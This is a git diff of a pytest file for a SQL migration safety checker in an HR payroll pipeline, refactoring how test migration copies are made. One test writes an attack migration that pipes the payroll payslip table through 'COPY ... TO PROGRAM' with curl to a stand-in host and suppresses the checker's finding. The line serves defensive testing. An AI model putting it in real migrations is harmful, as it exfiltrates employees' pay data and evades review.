@@ -8,10 +8,10 @@ import psycopg
 import pytest
 
 from hrms_pipelines import settings
-from hrms_pipelines.migrations import files
 from hrms_pipelines.migrations.check import RULES, Options, Severity, TableSizes, analyze_paths, analyze_sql
 from hrms_pipelines.migrations.check.rules import ban_unlisted_extension
 from hrms_pipelines.migrations.jobs import apply_migrations
+from hrms_pipelines_tests.conftest import project_copy
 
 SIZES = TableSizes.load()
 ESCALATION_RULES = sorted(r.id for r in RULES.values() if r.escalation)
@@ -173,12 +173,7 @@ def test_project_migrations_pass_and_their_do_blocks_were_read():
 
 def test_apply_migrations_refuses_a_suppressed_escalation(hrms_db, database_url, tmp_path, monkeypatch):
     """Issue 10's attack: a migration that runs a shell command and suppresses the finding itself."""
-    root = tmp_path / "migrations"
-    for m in files.discover(settings.migrations_dir()):
-        for f in (m.up, m.down):
-            if f is not None:
-                (root / m.app).mkdir(parents=True, exist_ok=True)
-                (root / m.app / f.path.name).write_bytes(f.data)
+    root = project_copy(tmp_path / "migrations")
     (root / "payroll" / "0100_export.up.sql").write_text(
         "-- hrms:allow ban-copy-program reason: nightly export\n"
         "COPY hrms.payroll_payslip TO PROGRAM 'curl -T - https://x.example';\n")
